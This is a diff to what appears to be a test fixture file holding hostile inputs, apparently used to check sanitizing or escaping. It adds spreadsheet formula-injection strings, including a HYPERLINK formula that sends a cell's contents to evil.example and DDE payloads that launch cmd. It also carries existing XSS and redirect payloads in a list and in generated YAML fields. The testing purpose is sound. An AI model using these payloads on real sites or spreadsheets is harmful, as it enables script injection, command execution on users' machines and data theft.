@@ -22,6 +22,10 @@ TEXTS = [
     "<a href=javascript:alert(1)>x</a><form action=//evil.example><input name=x autofocus onfocus=alert(1)>",
     "<template><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "=HYPERLINK(\"https://evil.example/?\"&A1; \"x\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3;=1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     "<meta http-equiv=refresh content=0;url=//evil.example>",
 ]
 
@@ -116,7 +120,7 @@ def item(number: int) -> str:
         f"---\nname: {quoted(name(number))}\nsummary: {quoted(name(number + 1))}\n"
         f"website: 'https://evil.example/?\"><script>alert(1)</script>&x=\u0301'\n"
         f"links: {{ {quoted(name(number + 2))}: 'https://evil.example/''onclick=alert(1)' }}\n"
-        f"aliases: [{quoted('alias ' + name(number))}]\n"
+        f"aliases: [{quoted('alias ' + name(number))}]\nupdated: 2024-01-{number + 1:02}\n"
         f"related: [{{ item: t{other}, as: {quoted(name(number + 4))}, sources: [s{number}] }}]\n"
         f"facts:\n{facts}"
         f"  c{last}: [{{ value: {['one', 'a', '1'][last % 3]}, sources: [s0] }}, "
